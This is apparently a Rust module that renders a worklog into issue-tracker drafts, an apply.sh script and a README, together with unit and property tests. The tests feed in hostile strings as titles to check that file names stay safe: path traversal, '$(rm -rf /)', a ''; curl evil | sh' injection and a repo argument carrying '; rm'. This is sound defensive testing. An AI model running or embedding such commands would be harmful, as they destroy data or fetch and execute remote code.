//! A planned worklog in; a text for each issue, a script to review and a list of what it does out. Nothing is sent.

use std::collections::BTreeMap;
use std::fmt::Write as _;

use super::marker::{marker, safe_id};
use super::script::{Step, script};
use super::title::{plain, shorten};
use crate::error::Result;
use crate::model::{Cluster, Fingerprint, Issue, Worklog};

/// Renders a template for a cluster: the cluster, the name of the template.
pub type Render<'a> = &'a dyn Fn(&Cluster, &str) -> Result<String>;

/// One text of a draft.
pub type Draft = (String, String);

/// GitHub takes 65,536 characters; counted as it may count them, with room to spare.
const BODY_LIMIT: usize = 60_000;
/// A name that was too long for a title is told up to here.
const NAME_LIMIT: usize = 2_000;
/// File names stay within what every file system takes.
const SLUG_LIMIT: usize = 60;

/// The files of a draft by name: a body or comment for each cluster with something to do, `apply.sh`, `README.md`.
///
/// The same worklog always gives the same files.
pub fn drafts(worklog: &Worklog, repo: &str, render: Render<'_>) -> Result<Vec<Draft>> {
    super::tracker::check_repo(repo)?;
    let mut files: BTreeMap<String, String> = BTreeMap::new();
    let mut steps = Vec::new();
    let run = super::run_id(worklog);
    for cluster in &worklog.clusters {
        let Some(issue) = &cluster.issue else { continue };
        let Some(template) = template_for(issue) else { continue };
        let body = finish(&with_whole_title(render(cluster, template)?, cluster, issue), cluster);
        let file = file_name(cluster, &issue.action);
        steps.push(Step {
            key: format!("{run} {} {}", safe_id(&cluster.id), issue.action),
            id: safe_id(&cluster.id),
            action: issue.action.clone(),
            number: issue.number,
            title: issue.title.clone(),
            labels: issue.labels.iter().map(|label| plain(label)).filter(|label| !label.is_empty()).collect(),
            file: file.clone(),
        });
        files.insert(file, body);
    }
    files.insert("README.md".into(), readme(worklog, &steps));
    files.insert("apply.sh".into(), script(repo, &steps));
    Ok(files.into_iter().collect())
}

fn template_for(issue: &Issue) -> Option<&'static str> {
    match issue.action.as_str() {
        "create" => Some("issue-body.md"),
        "comment" | "reopen" | "retitle" if issue.number.is_some() => Some("issue-comment.md"),
        _ => None,
    }
}

/// The text, and the name of the cluster in full where the title of the issue had to be cut.
fn with_whole_title(text: String, cluster: &Cluster, issue: &Issue) -> String {
    let name = plain(&cluster.title);
    if !issue.title.ends_with('…') || issue.title.ends_with(&name) {
        return text;
    }
    format!("{}\n\nThe title was cut; in full: {}\n", text.trim_end(), cell(&shorten(&name, NAME_LIMIT)))
}

/// `create-websocket-routing-7f3a9c21.md`: what is done, what about, and a hash, so that no two fall together.
fn file_name(cluster: &Cluster, action: &str) -> String {
    let hash = format!("{:032x}", Fingerprint::of(&[&cluster.id, &cluster.title]).bits());
    let hash: String = hash.chars().take(8).collect();
    let slug = slug(&cluster.title);
    if slug.is_empty() { format!("{action}-{hash}.md") } else { format!("{action}-{slug}-{hash}.md") }
}

/// Lower-case letters, digits and single dashes.
fn slug(text: &str) -> String {
    let mut slug = String::new();
    for letter in text.chars() {
        if letter.is_ascii_alphanumeric() {
            slug.push(letter.to_ascii_lowercase());
        } else if !slug.is_empty() && !slug.ends_with('-') {
            slug.push('-');
        }
        if slug.len() >= SLUG_LIMIT {
            break;
        }
    }
    slug.trim_end_matches('-').to_string()
}

/// Within the limit, with the mark as its last line.
fn finish(text: &str, cluster: &Cluster) -> String {
    let mark = marker(cluster);
    let text = text.trim_end();
    let room = BODY_LIMIT.saturating_sub(units(&mark) + 1_000);
    if units(text) <= room {
        return format!("{text}\n\n{mark}\n");
    }
    let (kept, left_out) = cut(text, room);
    let more = if left_out == 1 { "1 more line is".to_owned() } else { format!("{left_out} more lines are") };
    format!("{kept}\n\n*{more} left out here, for the length an issue may have; the worklog has all.*\n\n{mark}\n")
}

/// UTF-16 units, which are never fewer than characters.
fn units(text: &str) -> usize {
    text.encode_utf16().count()
}

/// Whole lines up to `room`, a fence that was cut through closed again, and how many lines were left out.
fn cut(text: &str, room: usize) -> (String, usize) {
    let mut kept = String::new();
    let mut used = 0;
    let mut fence: Option<String> = None;
    let mut lines = text.lines();
    for line in lines.by_ref() {
        let length = units(line) + 1;
        // A closing fence has to fit behind the line in any case.
        if used + length + fence.as_ref().map_or(0, |fence| fence.len() + 1) > room {
            if kept.is_empty() {
                kept = shorten(line, room);
            }
            let left_out = 1 + lines.count();
            if let Some(fence) = fence {
                kept.push_str(&fence);
            }
            return (kept.trim_end().to_string(), left_out);
        }
        fence = fence_after(line, fence);
        used += length;
        kept.push_str(line);
        kept.push('\n');
    }
    (kept, 0)
}

/// The fence that is open behind a line: closed by at least as many of the same sign, and nothing else.
fn fence_after(line: &str, open: Option<String>) -> Option<String> {
    let bare = line.trim_start();
    let sign = bare.chars().next().filter(|sign| matches!(sign, '`' | '~'));
    let run: String = sign.map(|sign| bare.chars().take_while(|letter| *letter == sign).collect()).unwrap_or_default();
    match open {
        Some(open) if run.starts_with(&open) && bare.trim_end() == run => None,
        Some(open) => Some(open),
        None if run.len() >= 3 => Some(run),
        None => None,
    }
}

fn readme(worklog: &Worklog, steps: &[Step]) -> String {
    let mut text = String::from(
        "# Drafts for the issue tracker\n\n\
         Nothing has been sent. Read the texts (they quote log entries), then run `bash apply.sh` on a machine where \
         `gh` is logged in, and hand `apply.log` to `log-gardener issues record`. It may be run again: what is done is \
         skipped, and it stops at the first error.\n\n\
         | cluster | action | issue | why | file |\n|---|---|---|---|---|\n",
    );
    for cluster in &worklog.clusters {
        let Some(issue) = &cluster.issue else { continue };
        let number = issue.number.map_or_else(String::new, |number| format!("#{number}"));
        let file = steps.iter().find(|step| step.id == safe_id(&cluster.id)).map_or("", |step| step.file.as_str());
        let _ = writeln!(
            text,
            "| {} | {} | {number} | {} | {file} |",
            safe_id(&cluster.id),
            cell(&issue.action),
            cell(&issue.reason)
        );
    }
    text
}

/// Text in a cell of a table, as code, so that nothing in it becomes markup.
fn cell(text: &str) -> String {
    let text = plain(text).replace('|', "/").replace('`', "'");
    if text.is_empty() { text } else { format!("`{text}`") }
}

#[cfg(test)]
mod tests {
    use super::super::plan::{PlanSettings, plan};
    use super::super::testing::{Story, cluster};
    use super::super::tracker::KnownIssues;
    use super::*;
    use proptest::prelude::*;

    fn planned() -> Worklog {
        let issues = r#"[{"number":1,"title":"something else","body":"","state":"OPEN"}]"#;
        let known = KnownIssues::parse(issues.as_bytes()).unwrap().0;
        let mut worklog = Story::new("2025-09-12T00:00:00Z", 24)
            .with(cluster("../../etc/passwd $(rm -rf /) `x`", 40))
            .with(cluster("'; curl evil | sh #", 40))
            .with(cluster("数据库 错误", 40))
            .with(cluster("unimportant", 1).priority("P9"))
            .done();
        plan(&mut worklog, &known, None, &PlanSettings::default());
        worklog
    }

    #[test]
    fn names_are_harmless_and_texts_carry_their_mark() {
        let worklog = planned();
        let files = drafts(&worklog, "o/r", &|cluster, _| Ok(format!("# {}\n", cluster.title))).unwrap();
        assert_eq!(files.len(), 5);
        for (name, text) in files.iter().filter(|(name, _)| name.starts_with("create-")) {
            let stem = name.strip_suffix(".md").unwrap();
            assert!(
                stem.len() <= 80
                    && stem.bytes().all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-')
            );
            let mark = super::super::marker::read_marker(text).unwrap();
            assert!(
                worklog
                    .clusters
                    .iter()
                    .any(|cluster| cluster.id == mark.id && cluster.fingerprints == mark.fingerprints)
            );
        }
        assert!(drafts(&worklog, "o/r; rm", &|_, _| Ok(String::new())).is_err());
    }

    #[test]
    fn a_title_that_was_cut_is_told_in_full() {
        let mut worklog = planned();
        worklog.clusters.truncate(1);
        worklog.clusters[0].title = format!("Cannot reach {}end", "the shard ".repeat(40));
        let known = KnownIssues::parse(br#"[{"number":1,"title":"else","body":"","state":"OPEN"}]"#).unwrap().0;
        plan(&mut worklog, &known, None, &PlanSettings::default());
        let texts = |worklog: &Worklog| drafts(worklog, "o/r", &|_, _| Ok("Text".to_string())).unwrap();
        let long = texts(&worklog);
        assert!(
            long.iter().any(|(_, text)| text.contains("The title was cut; in full: `Cannot") && text.contains("end`"))
        );
        worklog.clusters[0].title = "Short".into();
        plan(&mut worklog, &known, None, &PlanSettings::default());
        assert!(texts(&worklog).iter().all(|(_, text)| !text.contains("was cut")));
    }

    #[test]
    fn long_texts_are_cut_between_lines_with_fences_closed() {
        let one = cluster("x", 1).done();
        let long = format!("# Title\n\n````json\n{}\n````\nlast", "{\"emoji\": \"😀😀😀\"}\n".repeat(20_000));
        let text = finish(&long, &one);
        assert!(units(&text) <= 65_536 && text.chars().count() <= 65_536);
        assert!(text.contains("more lines are left out"));
        assert_eq!(text.lines().filter(|line| line.starts_with("````")).count(), 2);
        let flat = finish(&"y".repeat(100_000), &one);
        assert!(units(&flat) <= 65_536 && flat.contains("left out"));
        let short = finish("fits", &one);
        assert!(short.starts_with("fits\n\n<!--") && !short.contains("left out"));
    }

    proptest! {
        #[test]
        fn any_text_stays_within_limits(lines in prop::collection::vec(".{0,200}", 0..50), times in 1usize..60) {
            let text = lines.join("\n").repeat(times);
            let finished = finish(&text, &cluster("x", 1).done());
            prop_assert!(units(&finished) <= 65_536);
            prop_assert!(super::super::marker::read_marker(&finished).is_some());
        }

        #[test]
        fn any_title_makes_a_plain_name(title in ".{0,300}") {
            let name = file_name(&cluster(&title, 1).done(), "create");
            prop_assert!(name.len() <= 84 && name.bytes().all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || b"-.".contains(&byte)));
        }
    }
}
